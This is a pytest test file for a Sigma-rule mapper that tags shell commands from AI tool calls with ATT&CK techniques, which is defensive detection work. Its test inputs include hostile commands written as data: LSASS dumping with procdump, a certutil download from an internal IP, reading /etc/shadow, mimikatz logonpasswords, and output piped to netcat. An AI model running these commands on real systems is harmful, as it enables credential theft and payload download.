"""SigmaMapper: the user's Sigma process_creation rules over tool-call commands."""

from __future__ import annotations

import pickle
from pathlib import Path

import pytest

from llmnav.errors import ConfigError
from llmnav.mapping.base import Candidate, MapInput
from llmnav.mapping.sigma import LEVEL_SCORES, SigmaMapper, load_rules, processes

RULES = Path(__file__).parents[1] / "data" / "mapping" / "sigma"


@pytest.fixture(scope="module")
def mapper() -> SigmaMapper:
    return SigmaMapper.from_directory(RULES)


def command(text: str) -> MapInput:
    return MapInput(id="a1", text=text, kind="command", tool_name="shell")


def techniques(mapper: SigmaMapper, text: str) -> list[str]:
    [candidates] = mapper.map_batch([command(text)])
    return [candidate.technique_id for candidate in candidates]


def write_rule(directory: Path, name: str, body: str) -> Path:
    path = directory / name
    path.write_text(body, encoding="utf-8")
    return path


def rule_yaml(
    title: str,
    detection: str,
    *,
    tags: str = "[attack.t1059]",
    level: str = "medium",
    rule_id: str = "",
    category: str = "process_creation",
) -> str:
    return (
        f"title: {title}\n"
        + (f"id: {rule_id}\n" if rule_id else "")
        + f"tags: {tags}\nlogsource: {{category: {category}}}\nlevel: {level}\n"
        + "detection:\n"
        + "".join(f"    {line}\n" for line in detection.strip().splitlines())
    )


# Loading and the report


def test_sigma_mapper_loads_process_creation_rules_and_reports_the_rest(
    mapper: SigmaMapper,
) -> None:
    report = mapper.report
    assert (report.files, report.loaded) == (9, 6)
    assert sorted(rule.title for rule in mapper.rules) == [
        "Copy To A Staging Archive With A Marker Name",
        "File Downloaded With Certutil URL Cache",
        "LSASS Memory Dumped With ProcDump",
        "Privileges Listed With Whoami",
        "Scheduled Task Created From The Command Line",
        "Shadow File Read With A Pager Or Cat",
    ]
    assert report.skipped == [
        (
            str(RULES / "other" / "broken.yaml"),
            "not valid YAML: found unexpected end of stream at line 10",
        ),
        (
            str(RULES / "other" / "net_connection_win_rdp_outbound.yml"),
            "'Outbound RDP Connection': logsource is category network_connection, "
            "product windows, not category process_creation",
        ),
        (
            str(RULES / "windows" / "proc_creation_win_office_child.yml"),
            "'Shell Spawned By An Office Application': can never match: it needs ParentImage, "
            "which a command line does not carry",
        ),
    ]
    assert report.summary() == f"sigma: 6 rules loaded from 9 files in {RULES}, 3 skipped"


def test_sigma_mapper_missing_directory_is_a_config_error(tmp_path: Path) -> None:
    missing = tmp_path / "nope"
    with pytest.raises(ConfigError) as raised:
        SigmaMapper.from_directory(missing)
    assert str(raised.value) == (
        f"Sigma rule directory {missing} does not exist; pass --sigma a folder of Sigma .yml rules."
    )


def test_sigma_mapper_directory_without_rule_files_is_a_config_error(tmp_path: Path) -> None:
    (tmp_path / "README.md").write_text("no rules here\n")
    with pytest.raises(ConfigError, match=r"holds no \.yml or \.yaml file"):
        SigmaMapper.from_directory(tmp_path)


def test_sigma_mapper_file_instead_of_directory_is_a_config_error(tmp_path: Path) -> None:
    rule = write_rule(tmp_path, "r.yml", rule_yaml("R", "s: {CommandLine: x}\ncondition: s"))
    with pytest.raises(ConfigError, match="must be given as a directory"):
        SigmaMapper.from_directory(rule)


CORRELATION = """\
title: Many Discoveries
correlation:
    type: event_count
    rules: [some-rule]
    group-by: [User]
    timespan: 5m
    condition: {gte: 3}
"""


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (
            rule_yaml("No Tag", "s: {CommandLine: x}\ncondition: s", tags="[attack.discovery]"),
            "'No Tag': has no ATT&CK technique tag (attack.tNNNN or attack.tNNNN.NNN)",
        ),
        (
            rule_yaml("Bad Regex", "s: {CommandLine|re: 'a(b'}\ncondition: s"),
            "'Bad Regex': Regular expression 'a(b' is invalid: b'missing ): a(b'",
        ),
        (
            rule_yaml("Bad Condition", "s: {CommandLine: x}\ncondition: s and t"),
            "'Bad Condition': Detection 't' not defined in detections",
        ),
        (
            rule_yaml("Not System", "f: {User: SYSTEM}\ncondition: not f"),
            "'Not System': would match every command: its condition depends only on absent User",
        ),
        (
            rule_yaml("Placeholder", "s: {CommandLine|expand: '%admins%'}\ncondition: s"),
            "'Placeholder': Attempt to convert unhandled placeholder 'admins' into query.",
        ),
        (
            CORRELATION,
            "'Many Discoveries': correlation rules are not supported (a command is one event)",
        ),
        ("- not\n- a rule\n", "not a Sigma rule file: YAML document 1 is a list"),
        ("", "holds no Sigma rule"),
    ],
    ids=[
        "no-technique",
        "bad-regex",
        "bad-condition",
        "always-true",
        "placeholder",
        "correlation",
        "not-a-mapping",
        "empty",
    ],
)
def test_load_rules_skips_an_unusable_rule_with_its_reason(
    tmp_path: Path, body: str, reason: str
) -> None:
    path = write_rule(tmp_path, "rule.yml", body)
    rules, report = load_rules(tmp_path)
    assert rules == []
    assert report.skipped == [(str(path), reason)]


def test_load_rules_skips_a_second_rule_with_the_same_id(tmp_path: Path) -> None:
    rule_id = "5f1f7d1e-0b7c-4a57-9d0f-1a2b3c4d5e6f"
    body = rule_yaml("Twice", "s: {CommandLine|contains: x}\ncondition: s", rule_id=rule_id)
    write_rule(tmp_path, "a.yml", body)
    write_rule(tmp_path, "b.yml", body)
    rules, report = load_rules(tmp_path)
    assert len(rules) == 1
    assert report.skipped == [
        (str(tmp_path / "b.yml"), f"'Twice': duplicate of rule {rule_id} in {tmp_path / 'a.yml'}")
    ]


def test_load_rules_reads_yaml_suffixes_recursively_and_ignores_hidden_folders(
    tmp_path: Path,
) -> None:
    (tmp_path / "deep" / "er").mkdir(parents=True)
    (tmp_path / ".github").mkdir()
    write_rule(tmp_path / "deep" / "er", "r.YAML", rule_yaml("Deep", "s: {Image: x}\ncondition: s"))
    write_rule(tmp_path / ".github", "ci.yml", "on: push\n")
    rules, report = load_rules(tmp_path)
    assert [rule.title for rule in rules] == ["Deep"]
    assert (report.files, report.skipped) == (1, [])


# Matching


def test_sigma_mapper_proposes_the_rule_technique_with_its_title_as_evidence(
    mapper: SigmaMapper,
) -> None:
    [candidates] = mapper.map_batch([command("procdump.exe -accepteula -ma lsass.exe out.dmp")])
    assert candidates == [
        Candidate(
            technique_id="T1003.001",
            score=0.8,
            evidence="LSASS Memory Dumped With ProcDump",
            detail="sigma rule 1b87d2f1-fdb3-479c-9c62-28d1455b1cf6 (level high)",
        )
    ]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("certutil -urlcache -split -f http://10.0.0.5/a.exe a.exe", ["T1105"]),
        (r"C:\Windows\System32\certutil.exe -urlcache -f https://x.test/p p", ["T1105"]),
        ('schtasks /create /tn "Updater" /tr C:\\tmp\\u.exe /sc onlogon', ["T1053.005"]),
        ("cmd.exe /c whoami /priv", ["T1033"]),
        ("sudo cat /etc/shadow | head -n 3", ["T1003.008"]),
        ("/usr/bin/tail -n 2 /etc/gshadow", ["T1003.008"]),
        ("bash -c 'id; less /etc/shadow'", ["T1003.008"]),
        ('bash -lc "cd /tmp && more /etc/shadow"', ["T1003.008"]),
    ],
)
def test_sigma_mapper_matches_realistic_commands(
    mapper: SigmaMapper, text: str, expected: list[str]
) -> None:
    assert techniques(mapper, text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "PROCDUMP64.EXE -MA LSASS.EXE lsass.dmp",
        "ProcDump /Ma LSASS out.dmp",  # windash: /ma is -ma
        "CertUtil.EXE -URLCache -F HTTP://10.0.0.5/a.exe",
        "WHOAMI /PRIV",
    ],
)
def test_sigma_mapper_matches_case_insensitively(mapper: SigmaMapper, text: str) -> None:
    assert techniques(mapper, text) != []


@pytest.mark.parametrize(
    "text",
    [
        "procdump -mp notepad.exe",  # not lsass, not a full dump
        "certutil -hashfile installer.msi SHA256",
        "whoami",
        "cat /etc/shadowsocks/config.json",  # the regex wants a word boundary after shadow
        "CAT /ETC/SHADOW",  # |re is case-sensitive, as Sigma specifies
        "echo procdump -ma lsass",  # the image is echo
        "ls -la && git status",
        "",
    ],
)
def test_sigma_mapper_leaves_other_commands_alone(mapper: SigmaMapper, text: str) -> None:
    assert techniques(mapper, text) == []


def test_sigma_mapper_only_evaluates_command_inputs(mapper: SigmaMapper) -> None:
    items = [
        MapInput("r1", "whoami /priv", kind="request"),
        MapInput("c1", "whoami /priv", kind="command"),
        MapInput("k1", "whoami /priv", kind="code", language="bash"),
        MapInput("s1", "whoami /priv", kind="sentence"),
    ]
    results = mapper.map_batch(items)
    assert [[c.technique_id for c in candidates] for candidates in results] == [
        [],
        ["T1033"],
        [],
        [],
    ]


def test_sigma_mapper_treats_special_characters_in_rule_values_literally(
    mapper: SigmaMapper,
) -> None:
    # the rule value is \Public\it's_100%.zip: a quote, LIKE's % and _, and backslashes
    assert techniques(mapper, r"copy loot.7z C:\Users\Public\it's_100%.zip") == ["T1074.001"]
    assert techniques(mapper, r"copy loot.7z C:\Users\Public\it's_1000.zip") == []  # % literal
    assert techniques(mapper, r"copy loot.7z C:\Users\Public\it's-100%.zip") == []  # _ literal
    assert techniques(mapper, "copy loot.7z C:/Users/Public/it's_100%.zip") == []  # \ literal


def test_sigma_mapper_filter_on_a_field_we_lack_does_not_block_the_match(
    mapper: SigmaMapper,
) -> None:
    # the schtasks rule is "selection and not filter_system", filter_system reads User
    [[candidate]] = mapper.map_batch([command("schtasks.exe /Create /TN x /TR calc.exe")])
    assert (candidate.technique_id, candidate.score) == ("T1053.005", LEVEL_SCORES["low"])


def test_sigma_mapper_scores_candidates_by_rule_level() -> None:
    assert LEVEL_SCORES == {
        "informational": 0.3,
        "low": 0.45,
        "medium": 0.6,
        "high": 0.8,
        "critical": 0.9,
    }


def test_sigma_mapper_keeps_the_best_rule_per_technique_and_ranks_best_first(
    tmp_path: Path,
) -> None:
    detection = "s: {CommandLine|contains: 'Invoke-Mimikatz'}\ncondition: s"
    write_rule(tmp_path, "low.yml", rule_yaml("Low", detection, tags="[attack.t1003]", level="low"))
    write_rule(
        tmp_path, "high.yml", rule_yaml("High", detection, tags="[attack.t1003]", level="high")
    )
    write_rule(
        tmp_path,
        "ps.yml",
        rule_yaml("PS", detection, tags="[attack.T1059.001, attack.execution]", level="medium"),
    )
    mapper = SigmaMapper.from_directory(tmp_path)
    [candidates] = mapper.map_batch([command("powershell -c Invoke-Mimikatz -DumpCreds")])
    assert [(c.technique_id, c.score, c.evidence) for c in candidates] == [
        ("T1003", 0.8, "High"),
        ("T1059.001", 0.6, "PS"),
    ]


def test_sigma_mapper_keywords_search_the_command_line_and_filters_apply(tmp_path: Path) -> None:
    rule_id = "0c9f8a51-6f0e-4d7c-9a55-7d3e0c7b2a10"
    write_rule(
        tmp_path,
        "kw.yml",
        rule_yaml(
            "Mimikatz Keywords",
            "keywords: ['sekurlsa::']\ncondition: keywords",
            rule_id=rule_id,
            tags="[attack.t1003.001]",
        ),
    )
    write_rule(
        tmp_path,
        "filter.yml",
        "title: Lab runs\nlogsource: {category: process_creation}\n"
        f"filter:\n  rules: [{rule_id}]\n  lab: {{CommandLine|contains: 'lab-test'}}\n"
        "  condition: not lab\n",
    )
    mapper = SigmaMapper.from_directory(tmp_path)
    assert techniques(mapper, 'mimikatz "SEKURLSA::logonpasswords" exit') == ["T1003.001"]
    assert techniques(mapper, 'mimikatz "sekurlsa::logonpasswords" lab-test') == []


def test_sigma_mapper_without_splitting_sees_only_the_whole_command() -> None:
    mapper = SigmaMapper.from_directory(RULES, split_commands=False)
    assert techniques(mapper, "cmd /c whoami /priv") == []  # the image is cmd
    assert techniques(mapper, "whoami /priv") == ["T1033"]


def test_sigma_mapper_batch_keeps_input_order(mapper: SigmaMapper) -> None:
    texts = ["ls", "whoami /all", "git log", "procdump -ma lsass.exe d.dmp", "whoami /all"]
    results = mapper.map_batch([MapInput(str(i), t, "command") for i, t in enumerate(texts)])
    assert [[c.technique_id for c in r] for r in results] == [
        [],
        ["T1033"],
        [],
        ["T1003.001"],
        ["T1033"],
    ]
    assert mapper.map_batch([]) == []


def test_sigma_mapper_survives_pickling_for_other_engines(mapper: SigmaMapper) -> None:
    copy = pickle.loads(pickle.dumps(mapper))
    assert copy.report == mapper.report
    assert techniques(copy, "whoami /priv") == ["T1033"]


# From a command to process-creation events


@pytest.mark.parametrize(
    ("text", "image", "image_win", "image_unix"),
    [
        (
            r"C:\Windows\System32\cmd.exe /c dir",
            r"C:\Windows\System32\cmd.exe",
            r"C:\Windows\System32\cmd.exe",
            None,
        ),
        ("/usr/bin/curl -sO http://x.test/a", "/usr/bin/curl", None, "/usr/bin/curl"),
        ("nmap -sV 10.0.0.0/24", "nmap", r"\nmap.exe", "/nmap"),
        ("whoami.exe /groups", "whoami.exe", r"\whoami.exe", "/whoami.exe"),
        (
            '"C:\\Program Files\\7-Zip\\7z.exe" a out.7z',
            r"C:\Program Files\7-Zip\7z.exe",
            r"C:\Program Files\7-Zip\7z.exe",
            None,
        ),
    ],
)
def test_processes_derive_the_image_from_the_first_token(
    text: str, image: str, image_win: str | None, image_unix: str | None
) -> None:
    first = processes(text)[0]
    assert (first.command_line, first.image, first.image_win, first.image_unix) == (
        text,
        image,
        image_win,
        image_unix,
    )


def test_processes_include_the_children_a_command_starts() -> None:
    found = processes("LANG=C sudo -u root sh -c 'id && cat /etc/x' 2>&1 | nc h 9")
    assert [(p.image, p.command_line) for p in found] == [
        ("sudo", "LANG=C sudo -u root sh -c 'id && cat /etc/x' 2>&1 | nc h 9"),
        ("sudo", "LANG=C sudo -u root sh -c 'id && cat /etc/x' 2>&1"),
        ("sudo", "sudo -u root sh -c 'id && cat /etc/x' 2>&1"),
        ("sh", "sh -c 'id && cat /etc/x' 2>&1"),
        ("id", "id"),
        ("cat", "cat /etc/x"),
        ("nc", "nc h 9"),
    ]
